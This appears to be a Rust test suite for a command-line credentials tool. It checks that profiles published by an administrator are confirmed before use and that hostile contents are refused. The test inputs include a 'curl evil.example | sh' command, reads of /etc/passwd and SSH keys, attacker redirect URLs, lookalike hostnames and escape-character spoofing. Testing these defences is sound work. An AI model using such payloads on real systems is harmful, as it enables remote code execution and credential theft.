//! `login --from` and `profiles update`: a profile that an administrator publishes, as the foreign document that it is.

use crate::support::answer::ScriptedResponse;
use crate::support::server::Hostile;
use crate::support::snapshot::Table;
use crate::support::terminal::Terminal;
use crate::support::world::World;

fn profile(world: &World) -> String {
    let (endpoint, issuer) = (world.variable("STS_CLI_ENDPOINT"), world.variable("STS_CLI_ISSUER"));
    format!("identity = \"web-identity\"\nendpoint = \"{endpoint}\"\nissuer = \"{issuer}\"\nclient_id = \"sts-cli\"\n")
}

fn saved(world: &World, name: &str) -> Option<String> {
    std::fs::read_to_string(world.path(&format!("xdg_config_home/sts-cli/profiles/{name}.toml"))).ok()
}

fn toml(text: &str) -> ScriptedResponse {
    ScriptedResponse::new(200, "application/toml", text)
}

#[test]
fn a_published_profile_is_confirmed_saved_and_updated() {
    let (world, server) = (World::new(&[]), Hostile::start());
    let url = format!("{}/team/lab.toml", server.origin());
    let published = profile(&world);
    server.expect("GET /team/lab.toml", toml(&published));
    let mut terminal = Terminal::of(&world, "sh");
    terminal.types(&format!("sts-cli login --from {url}\n"));
    terminal.shows(&[&format!("{url} publishes this profile:"), "the token goes to", "client_id               sts-cli", "[y/N]: "]);
    assert_eq!((world.browser_opened(), saved(&world, "lab")), (0, None));
    terminal.types("y\n");
    terminal.shows(&["saved the profile `lab`", "Logged in to lab as alice", "Set up the AWS profile `lab` now? [y/N]: "]);
    terminal.types("\n");
    let first = saved(&world, "lab").unwrap();
    assert!(first.contains(&format!("from = \"{url}\"\nidentity = \"web-identity\"\n")), "{first}");
    world.run(&["get", "lab", "-o", "json"]).ok_with_json();
    assert!(world.run(&["profiles", "show", "lab"]).ok().contains(&format!("from                  {url}")));
    assert_eq!(server.requests().len(), 1, "only an update fetches it again");

    server.expect("GET /team/lab.toml", toml(&published));
    assert!(world.run(&["profiles", "update", "lab"]).stderr.contains("is up to date"));
    let changed = format!("{published}duration = \"1h\"\nallow = [\"read:demo\"]\n").replace("sts-cli\"", "other-client\"");
    for (keys, expected) in [("n\n", false), ("y\n", true)] {
        server.expect("GET /team/lab.toml", toml(&changed));
        terminal.types("sts-cli profiles update lab; echo \"code=$?\"\n");
        terminal.shows(&["-client_id = \"sts-cli\"", "+client_id = \"other-client\"", "+duration = \"1h\"", "[y/N]: "]);
        terminal.types(keys);
        terminal.shows(&[if expected { "code=0" } else { "code=4" }]);
        assert_eq!(saved(&world, "lab").unwrap() != first, expected);
    }
    assert!(saved(&world, "lab").unwrap().contains("allow = [\"read:demo\"]\n"));
}

#[test]
fn without_a_terminal_a_published_profile_is_not_used() {
    let world = World::new(&[]);
    world.write("work/lab.toml", &profile(&world));
    let file = world.path("work/lab.toml").display().to_string();
    world.run(&["login", "--from", &file]).fails(2, "unconfirmed");
    world.run(&["login", "other", "--from", &file, "--save", "lab"]).fails(2, "two-names");
    world.run(&["login", "prod", "--from", &file]).fails(3, "name-in-use");
    world.run(&["login", "https://minio.example", "--from", &file]).fails(2, "with-an-address");
    world.run(&["login", "--from", &file, "--profile", "prod"]).fails(2, "with-a-profile");
    world.run(&["profiles", "update", "prod"]).fails(3, "update-of-another-profile");
    world.run(&["profiles", "update", "none-such"]).fails(3, "update-of-no-profile");
    world.write_profile("old", &format!("from = \"{file}\"\n{}", profile(&world).replace("sts-cli", "old-client")));
    let before = saved(&world, "old");
    world.run(&["profiles", "update", "old"]).ends(2, "unconfirmed-update");
    assert_eq!((saved(&world, "old"), saved(&world, "lab"), world.browser_opened()), (before, None, 0));
}

#[test]
fn what_a_published_profile_may_not_contain_is_refused_by_its_key() {
    let world = World::new(&[]);
    let (good, mut table) = (profile(&world), Table::default());
    let file = world.path("work/lab.toml").display().to_string();
    for line in [
        "token = \"cmd:sh -c 'curl evil.example | sh'\"",
        "token = \"file:/etc/passwd\"",
        "token = \"github\"",
        "client_secret_file = \"~/.ssh/id_ed25519\"",
        "ask_client_secret = true",
        "client_assertion_key = \"key.pem\"",
        "password_command = \"sh\"",
        "password_file = \"/etc/passwd\"",
        "secret_key_file = \"/etc/passwd\"",
        "source_profile = \"prod\"",
        "ca_bundle = \"/tmp/ca.pem\"",
        "client_cert = \"/tmp/cert.pem\"",
        "policy = \"policy.json\"",
        "policy = \"-\"",
        "insecure = true",
        "allow_http = true",
        "allow_http_issuer = true",
        "no_cache = true",
        "token_endpoint = \"https://evil.example\"",
        "extends = \"prod\"",
        "from = \"https://evil.example/x.toml\"",
        "client_secret = \"planted-secret\"",
        "unknown = 1",
        "duration = 1.5",
        "output = \"json\"",
        "role_arn = \"arn:minio:iam:::role/\\u001b[31m\"",
        "s3_endpoint = \"https://s3.exаmple\"",
        "region = \"eu\\u202ewest\"",
        "session_name = \"me   the token goes to  minio.example\"",
        "role_arn = \"arn:minio:iam:::role/a b\"",
        "redirect_uri = \"https://evil.example/cb\"",
        "auth_params = { client_id = \"evil\" }",
        "timeout = \"99999999999999999999h\"",
        "duration = \"soon\"",
        "login = \"telepathy\"",
        "policy = '{\"Statement\": 1'",
        "client_ids = \"sts-cli\"",
        "no toml",
    ] {
        world.write("work/lab.toml", &format!("{good}{line}\n"));
        let outcome = world.run(&["login", "--from", &file]);
        assert!(!outcome.stderr.contains("planted"), "{outcome:#?}");
        table.fails(3, line, &outcome);
    }
    for text in ["", "identity = \"client-grants\"\n", "identity = \"nobody\"\n"] {
        world.write("work/lab.toml", text);
        table.fails(3, text.trim_end(), &world.run(&["login", "--from", &file]));
    }
    table.matches("refused-keys");
    assert_eq!((saved(&world, "lab"), world.browser_opened()), (None, 0));
}

#[test]
fn long_keys_are_cut_and_long_values_are_refused() {
    let world = World::new(&[]);
    let (good, mut table) = (profile(&world), Table::default());
    let file = world.path("work/lab.toml").display().to_string();
    let long = "x".repeat(30_000);
    for (name, line) in [
        ("a long key", format!("{long} = 1\n")),
        ("a long key twice", format!("{long} = 1\n{long} = 1\n")),
        ("a long value", format!("session_name = \"{long}\"\n")),
        ("many values", format!("allow = [{}]\n", "\"read:demo\", ".repeat(300))),
    ] {
        world.write("work/lab.toml", &format!("{good}{line}"));
        table.fails(3, name, &world.run(&["login", "--from", &file]));
    }
    world.write("work/lab.toml", &format!("identity = \"{long}\"\n"));
    table.fails(3, "a long identity", &world.run(&["login", "--from", &file]));
    table.matches("long-texts");
}

#[test]
fn invalid_addresses_in_a_published_profile_are_refused() {
    let world = World::new(&[]);
    let (good, mut table) = (profile(&world), Table::default());
    let file = world.path("work/lab.toml").display().to_string();
    let (endpoint, issuer) = (world.variable("STS_CLI_ENDPOINT").to_owned(), world.variable("STS_CLI_ISSUER").to_owned());
    for (from, to) in [
        (issuer.as_str(), "http://id.example"),
        (&issuer, "https://me:planted-password@id.example"),
        (&issuer, "id.example"),
        (&endpoint, "http://minio.example"),
        (&endpoint, "https://me:planted-password@minio.example"),
        (&issuer, "https://id.example/   )          the token goes to  minio.example"),
        ("sts-cli", "sts-cli                the token goes to  minio.example"),
        (&issuer, "https://id%2eexample"),
        (&issuer, "http://2130706433"),
        (&issuer, "https:evil.example/"),
        (&endpoint, "https://s3%2eexample"),
        (&endpoint, "http://127.1:9000"),
    ] {
        world.write("work/lab.toml", &good.replace(&format!("\"{from}\""), &format!("\"{to}\"")));
        let outcome = world.run(&["login", "--from", &file]);
        assert!(!outcome.stderr.contains("planted-password"), "{outcome:#?}");
        table.fails(3, to, &outcome);
    }
    table.matches("refused-addresses");
}

#[test]
fn the_confirmation_shows_every_value_in_full_and_a_declined_one_says_who_can_help() {
    let world = World::new(&[]);
    const STATEMENT: &str = r#"[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]"#;
    let parameters: Vec<String> = (0..12).map(|number| format!("\"k{number}={}\"", "v".repeat(60))).collect();
    let lines = format!("auth_params = [{}, \"zz=last    (the token goes to       minio.example)\"]\n", parameters.join(", "));
    let policy = format!("policy = '''\n{{\n  \"Version\": \"2012-10-17\",\n\t\"Statement\": {STATEMENT}\n}}\n'''\n");
    world.write("work/lab.toml", &format!("{}{lines}{policy}", profile(&world)));
    let file = world.path("work/lab.toml").display().to_string();
    let mut terminal = Terminal::of(&world, "sh");
    terminal.types(&format!("sts-cli login --from {file}\n"));
    let shown_policy =
        format!("  {:<22}  {{ \"Version\": \"2012-10-17\", \"Statement\":\r\n{}{STATEMENT} }}\r\n", "policy", " ".repeat(26));
    let indented = format!("\r\n{}k11={}", " ".repeat(26), "v".repeat(50));
    terminal.shows(&[&indented, "zz=last\r\n                          (the token goes to minio.example)\r\n", &shown_policy, "[y/N]: "]);
    terminal.types("n\n");
    terminal.shows(&[
        "the profile from",
        "was not confirmed",
        "ask the administrator who publishes it which settings are right",
        "sts-cli login https://YOUR-SERVER",
    ]);
    world.write_profile("old", &format!("from = \"{file}\"\n{}", profile(&world)));
    terminal.types("sts-cli profiles update old\n");
    terminal.shows(&["[y/N]: "]);
    terminal.types("n\n");
    terminal
        .shows(&["the new version of the profile `old` was not confirmed", "ask the administrator who publishes it why it has changed"]);
}

#[test]
fn a_published_profile_is_fetched_within_limits_and_without_secrets() {
    let (world, server, other) = (World::new(&[]), Hostile::start(), Hostile::start());
    let url = format!("{}/lab.toml", server.origin());
    let mut table = Table::default();
    let redirect = ScriptedResponse::empty(301).header("Location", &format!("{}/other.toml", other.origin()));
    for (name, answer) in [
        ("redirect", redirect),
        ("not found", ScriptedResponse::empty(404)),
        ("login page", ScriptedResponse::html(200)),
        ("large", toml(&"# comment\n".repeat(10_000))),
        ("endless", ScriptedResponse::endless("text/plain")),
        ("not text", ScriptedResponse::raw(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n\xff\xfe")),
        ("no response", ScriptedResponse::hang_up()),
    ] {
        server.allow("GET /lab.toml", answer);
        let outcome = world.program(&["login", "--from", &url]).env("STS_CLI_CLIENT_SECRET", "planted-secret").run();
        let outcome = outcome.named(&server.origin(), "[SERVER]").named(&other.origin(), "[OTHER]");
        table.ends(outcome.code, name, &outcome);
    }
    for url in [
        "http://intranet.example/lab.toml",
        "https://me:planted-password@intranet.example/lab.toml",
        "https://intranet.example/lab.toml?token=planted-token",
        "ftp://intranet.example/lab.toml",
        "no-such-file.toml",
        "/dev/zero",
    ] {
        let outcome = world.run(&["login", "--from", url]);
        assert!(!outcome.stderr.contains("planted"), "{outcome:#?}");
        table.ends(
            outcome.code,
            url.split(['@', '?']).next().unwrap(),
            &outcome.named(&std::env::current_dir().unwrap().display().to_string(), "[HERE]"),
        );
    }
    table.matches("fetched");
    let secrets = |headers: &str| headers.contains("authorization:") || headers.contains("cookie:") || headers.contains("planted");
    assert!(server.requests().iter().all(|request| !secrets(&request.headers.to_lowercase())));
    assert_eq!((other.connections(), saved(&world, "lab"), world.browser_opened()), (0, None, 0));
}

#[test]
fn a_published_ldap_profile_names_the_server_that_gets_the_password() {
    let world = World::new(&[]);
    let endpoint = world.variable("STS_CLI_ENDPOINT");
    world.write("work/directory.toml", &format!("identity = \"ldap\"\nendpoint = \"{endpoint}\"\n"));
    let mut terminal = Terminal::of(&world, "sh");
    let password = world.variable("SANDBOX_LDAP_PASSWORD_FILE");
    let file = world.path("work/directory.toml").display().to_string();
    terminal.types(&format!("export STS_CLI_USER=alice STS_CLI_PASSWORD_FILE={password}; sts-cli login --from {file} --save people\n"));
    let host = endpoint.trim_start_matches("http://");
    terminal.shows(&[&format!("your login goes to      {host}"), &format!("Send your login (ldap) to {host}? [y/N]: ")]);
    assert_eq!(saved(&world, "people"), None);
    terminal.types("y\n");
    terminal.shows(&["Logged in to people as", "Set up the AWS profile `people` now? [y/N]: "]);
    let text = saved(&world, "people").unwrap();
    assert!(text.contains("identity = \"ldap\"\n") && !text.contains("password"), "{text}");
}
